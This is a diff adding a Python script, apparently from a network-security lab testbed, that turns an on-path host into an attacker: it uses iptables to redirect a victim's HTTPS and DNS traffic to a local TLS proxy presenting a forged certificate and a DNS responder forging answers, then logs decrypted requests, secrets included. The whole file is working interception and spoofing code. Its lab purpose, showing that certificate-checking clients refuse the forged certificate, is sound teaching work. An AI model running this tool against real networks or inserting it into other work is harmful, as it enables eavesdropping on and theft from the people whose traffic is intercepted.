@@ -1,0 +1,219 @@
+#!/usr/bin/env python3
+"""attacker: the wire turns attacker. An on-path interceptor and a DNS spoofer.
+
+The wire already forwards every packet between the client and the others.
+Here it stops forwarding some of them and answers itself:
+
+    attacker.py start --client ADDR --server ADDR [--spoof-dns NAME=ADDR]
+        iptables REDIRECT sends the client's TCP port 443 to a local TLS
+        proxy (and, with --spoof-dns, its DNS queries to a local responder
+        that answers NAME with ADDR). The proxy presents the attacker's own
+        certificate for the name the client asked for, relays to the real
+        server, and writes everything it read in clear to its log.
+    attacker.py stop
+        removes the rules and stops the proxy; prints the log as JSON lines.
+
+A client that checks certificates refuses the attacker's certificate, and
+the proxy's log shows the failed handshake and nothing else. A client that
+does not check hands over its request, secret and all.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import signal
+import socket
+import ssl
+import struct
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+STATE = Path(os.environ.get("WIRE_STATE", "/run/wire"))
+PIDFILE = STATE / "attacker.pid"
+LOG = STATE / "attacker.log"
+PROXY_PORT = 8443
+DNS_PORT = 5353
+CERTS = Path("/attacker")
+
+
+def log(event: dict) -> None:
+    event["time"] = round(time.time(), 6)
+    with open(LOG, "a") as handle:
+        handle.write(json.dumps(event) + "\n")
+
+
+# -- the TLS interceptor ----------------------------------------------------------
+
+def read_request(tls: ssl.SSLSocket) -> bytes:
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = tls.recv(65536)
+        if not chunk:
+            return data
+        data += chunk
+    head, _, body = data.partition(b"\r\n\r\n")
+    length = 0
+    for line in head.split(b"\r\n")[1:]:
+        name, _, value = line.partition(b":")
+        if name.strip().lower() == b"content-length":
+            length = int(value.strip() or 0)
+    while len(body) < length:
+        chunk = tls.recv(65536)
+        if not chunk:
+            break
+        body += chunk
+    return head + b"\r\n\r\n" + body
+
+
+def intercept(conn: socket.socket, peer: tuple[str, int], server: str, context: ssl.SSLContext) -> None:
+    try:
+        tls = context.wrap_socket(conn, server_side=True)
+    except (ssl.SSLError, OSError) as exc:
+        # What a refusing client leaves the attacker: a failed handshake, no data.
+        if peer[0] != "127.0.0.1":            # not our own readiness probe
+            log({"event": "handshake failed", "client": f"{peer[0]}:{peer[1]}", "error": str(exc)})
+        conn.close()
+        return
+    with tls:
+        request = read_request(tls)
+        log({"event": "request in clear", "client": f"{peer[0]}:{peer[1]}", "request": request.decode("latin-1")})
+        upstream_ctx = ssl.create_default_context()
+        upstream_ctx.check_hostname = False          # the attacker does not care who the server is
+        upstream_ctx.verify_mode = ssl.CERT_NONE
+        try:
+            with socket.create_connection((server, 443), timeout=5) as raw, \
+                    upstream_ctx.wrap_socket(raw, server_hostname="server.lab.test") as up:
+                up.sendall(request)
+                response = b""
+                while True:
+                    chunk = up.recv(65536)
+                    if not chunk:
+                        break
+                    response += chunk
+        except OSError as exc:
+            log({"event": "upstream failed", "error": str(exc)})
+            return
+        log({"event": "response in clear", "client": f"{peer[0]}:{peer[1]}",
+             "response": response.decode("latin-1")[:2000]})
+        tls.sendall(response)
+
+
+def proxy(server: str) -> None:
+    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    context.load_cert_chain(str(CERTS / "server.lab.test.crt"), str(CERTS / "server.lab.test.key"))
+    listener = socket.create_server(("0.0.0.0", PROXY_PORT), backlog=64, reuse_port=False)
+    while True:
+        conn, peer = listener.accept()
+        threading.Thread(target=intercept, args=(conn, peer, server, context), daemon=True).start()
+
+
+# -- the DNS spoofer --------------------------------------------------------------
+
+def spoof_answer(query: bytes, name: str, address: str) -> bytes | None:
+    """Answer an A query for `name` with `address` (RFC 1035 4.1), as if from the resolver."""
+    if len(query) < 12:
+        return None
+    qid, flags, qdcount = struct.unpack("!HHH", query[:6])
+    pos, labels = 12, []
+    while pos < len(query) and query[pos]:
+        n = query[pos]
+        labels.append(query[pos + 1:pos + 1 + n].decode("ascii", "replace"))
+        pos += 1 + n
+    question = query[12:pos + 5]
+    qname = ".".join(labels).lower()
+    rcode = 0 if qname == name else 3      # NXDOMAIN for anything else: this attacker is focused
+    header = struct.pack("!HHHHHH", qid, 0x8400 | (flags & 0x0100) | rcode, 1, 1 if rcode == 0 else 0, 0, 0)
+    answer = b""
+    if rcode == 0:
+        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 5, 4) + socket.inet_aton(address)
+    return header + question + answer
+
+
+def spoofer(name: str, address: str) -> None:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind(("0.0.0.0", DNS_PORT))
+    while True:
+        query, peer = sock.recvfrom(512)
+        reply = spoof_answer(query, name, address)
+        if reply:
+            sock.sendto(reply, peer)
+            log({"event": "dns spoofed", "client": f"{peer[0]}:{peer[1]}", "name": name, "answer": address})
+
+
+# -- control ----------------------------------------------------------------------
+
+def iptables(*args: str) -> None:
+    subprocess.run(["iptables", "-t", "nat", *args], check=True, capture_output=True, text=True)
+
+
+def start(args: argparse.Namespace) -> dict:
+    if PIDFILE.exists():
+        stop()
+    STATE.mkdir(parents=True, exist_ok=True)
+    LOG.write_text("")
+    pid = os.fork()
+    if pid == 0:                                   # the attacker process
+        os.setsid()
+        devnull = os.open(os.devnull, os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(devnull, fd)
+        if args.spoof_dns:
+            name, _, address = args.spoof_dns.partition("=")
+            threading.Thread(target=spoofer, args=(name.lower(), address), daemon=True).start()
+        proxy(args.server)
+        os._exit(0)
+    PIDFILE.write_text(str(pid))
+    deadline = time.monotonic() + 5
+    while time.monotonic() < deadline:             # listening before the rules point at it
+        with socket.socket() as probe:
+            if probe.connect_ex(("127.0.0.1", PROXY_PORT)) == 0:
+                break
+        time.sleep(0.01)
+    iptables("-A", "PREROUTING", "-s", args.client, "-p", "tcp", "--dport", "443",
+             "-j", "REDIRECT", "--to-ports", str(PROXY_PORT))
+    if args.spoof_dns:
+        iptables("-A", "PREROUTING", "-s", args.client, "-p", "udp", "--dport", "53",
+                 "-j", "REDIRECT", "--to-ports", str(DNS_PORT))
+    return {"running": True, "pid": pid, "spoof_dns": args.spoof_dns or None}
+
+
+def stop() -> dict:
+    subprocess.run(["iptables", "-t", "nat", "-F", "PREROUTING"], capture_output=True)
+    if PIDFILE.exists():
+        try:
+            os.killpg(int(PIDFILE.read_text()), signal.SIGKILL)
+        except (ProcessLookupError, ValueError, PermissionError):
+            pass
+        PIDFILE.unlink(missing_ok=True)
+    events = [json.loads(line) for line in LOG.read_text().splitlines() if line.strip()] if LOG.exists() else []
+    return {"running": False, "log": events}
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description="The wire as attacker: TLS interception and DNS spoofing.")
+    sub = parser.add_subparsers(dest="command", required=True)
+    p = sub.add_parser("start", help="redirect the client's traffic to the attacker")
+    p.add_argument("--client", required=True, help="the victim's address")
+    p.add_argument("--server", required=True, help="the real server's address (the proxy relays there)")
+    p.add_argument("--spoof-dns", metavar="NAME=ADDR", help="answer the victim's DNS query for NAME with ADDR")
+    sub.add_parser("stop", help="remove the rules, stop, and print the attacker's log")
+    args = parser.parse_args(argv)
+    try:
+        result = start(args) if args.command == "start" else stop()
+    except (OSError, subprocess.CalledProcessError) as exc:
+        detail = getattr(exc, "stderr", "") or str(exc)
+        json.dump({"error": detail.strip().splitlines()[-1] if detail.strip() else str(exc)}, sys.stdout)
+        sys.stdout.write("\n")
+        return 1
+    json.dump(result, sys.stdout)
+    sys.stdout.write("\n")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
